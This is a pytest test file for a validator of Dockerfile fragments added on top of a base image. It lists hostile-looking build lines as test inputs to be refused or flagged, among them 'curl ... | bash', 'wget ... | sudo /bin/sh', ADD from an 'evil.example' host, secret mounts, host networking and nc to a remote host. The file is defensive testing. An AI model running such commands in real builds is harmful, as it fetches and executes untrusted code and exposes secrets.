"""What may be built on top of an image, and what of it an operator is told."""

import pytest

from bottle.domain.fragments import fragment_concerns, fragment_fault, headline, instructions, recipe

APT = "RUN apt-get update && apt-get install -y --no-install-recommends jq"


@pytest.mark.parametrize(
    "text",
    [
        APT,
        "# a comment\n\nrun true\nEnv LEVEL=3",
        'RUN ["/bin/true", "--", "--mount"]',
        "RUN apt-get update \\\n    # what is needed\n\n && apt-get install -y jq",
        "RU\\\nN true",
        "RUN echo $((1 << 2))",
    ],
)
def test_what_installs_and_what_sets_is_taken(text: str) -> None:
    assert fragment_fault(text) is None


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("FROM scratch", "'FROM' is not taken"),
        (f"{APT}\nFROM scratch", "'FROM' is not taken"),
        ("COPY / /", "'COPY' is not taken"),
        ("ADD https://evil.example/x /x", "'ADD' is not taken"),
        ("ARG BUILD_CA_B64\nRUN env", "'ARG' is not taken"),
        ("USER root", "'USER' is not taken"),
        ("ONBUILD RUN true", "'ONBUILD' is not taken"),
        ("ENTRYPOINT /evil", "'ENTRYPOINT' is not taken"),
        ("RUN --mount=type=secret,id=x cat /run/secrets/x", "no options"),
        ("RUN \\\n  --security=insecure true", "no options"),
        ("RUN \\\n# why\n  --network=host true", "no options"),
        ("RUN <<END\nFROM scratch\nEND", "here-document"),
        ("RUN cat <<'USER'", "here-document"),
        ("RUN cat <<- USER", "here-document"),
        ("RUN", "needs something"),
        ("# only a word", "at least one"),
        ("", "at least one"),
        ("RUN true \\", "backslash"),
        ("RUN true \\\n# and no more", "backslash"),
        ("RUN true \\  \n\n", "backslash"),
        *((f"RUN true \\{space}", "spaces, tabs") for space in "\r\v\f\x85\u00a0\u2003\u2028\u3000"),
    ],
)
def test_what_reaches_for_more_is_refused(text: str, says: str) -> None:
    """The build's files, caches and secrets, the base, the user, and the lines that follow are not its own."""
    assert says in (fragment_fault(text) or "")


def test_lines_that_run_on_are_joined_as_a_builder_joins_them() -> None:
    text = "RUN apt-get inst\\\nall -y \\\n# why\n  jq\nENV A=1"
    assert instructions(text) == ("RUN apt-get install -y   jq", "ENV A=1")


def test_all_of_it_stands_between_our_lines() -> None:
    assert recipe("base:1", (APT, "ENV A=1")) == f"FROM base:1\nUSER root\n{APT}\nENV A=1\nUSER node\n"


def test_roots_are_trusted_by_what_is_added_alone() -> None:
    lines = recipe("base:1", (APT,), has_roots=True).splitlines()
    before, after = lines[: lines.index(APT)], lines[lines.index(APT) + 1 :]
    assert before[:3] == ["FROM base:1", "USER root", "ARG BUILD_CA_B64"]
    assert not any(line.startswith("ENV") for line in lines), "it would stay with the image"
    assert after == ["RUN rm /etc/build-roots.pem", "USER node"]


def test_the_first_line_does_not_hide_the_rest() -> None:
    assert headline(f"# harmless\n{APT}") == APT
    assert headline(f"{APT}\nRUN rm -rf /opt\nENV A=1") == f"{APT} (and 2 more)"


@pytest.mark.parametrize(
    ("text", "concerns"),
    [
        (APT, 0),
        ("RUN npm install -g prettier && pip install ruff", 0),
        ("RUN curl -fsSL https://get.example/install.sh -o x", 1),
        ("RUN curl -fsSL https://GET.example:8443/a https://get.example/b | bash", 2),
        ("RUN wget -qO- https://get.example | sudo /bin/sh -s", 2),
        ("RUN git clone ssh://git@forge.example/x", 1),
        ("RUN apt-get install -y curl wget && rm -rf /var/lib/apt/lists/*", 0),
        ("RUN curl get.example/x -o /bin/sh", 1),
        ("RUN set -e; \\\n  if true; then /usr/bin/wget get.example/x; fi", 1),
        ("RUN true && sudo nc get.example 80 > /x", 1),
    ],
)
def test_what_comes_from_elsewhere_is_pointed_out(text: str, concerns: int) -> None:
    assert len(fragment_concerns(text)) == concerns
